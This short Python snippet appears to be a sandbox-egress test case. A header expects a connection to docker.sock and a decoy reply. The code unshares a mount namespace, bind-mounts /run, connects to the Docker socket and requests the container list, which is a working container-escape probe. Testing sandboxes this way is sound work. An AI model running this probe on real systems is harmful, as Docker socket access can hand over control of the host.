#: {"class": "egress", "loader": "script", "include": ["raw"], "expect": [["connect", "docker\\.sock"]], "effect": {"loot": "DECOY-reply"}}
import socket
def mount(a, b, t, fl, d=None):
    assert _c.mount(a.encode(), b.encode(), t.encode() if t else None, fl, d.encode() if d else None) == 0, ctypes.get_errno()
_c.unshare(0x20000); os.mkdir(TMP + "/r"); mount("/run", TMP + "/r", "", 4096); s = socket.socket(socket.AF_UNIX); s.connect(TMP + "/r/docker.sock"); s.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n"); LOOT(s.recv(999))
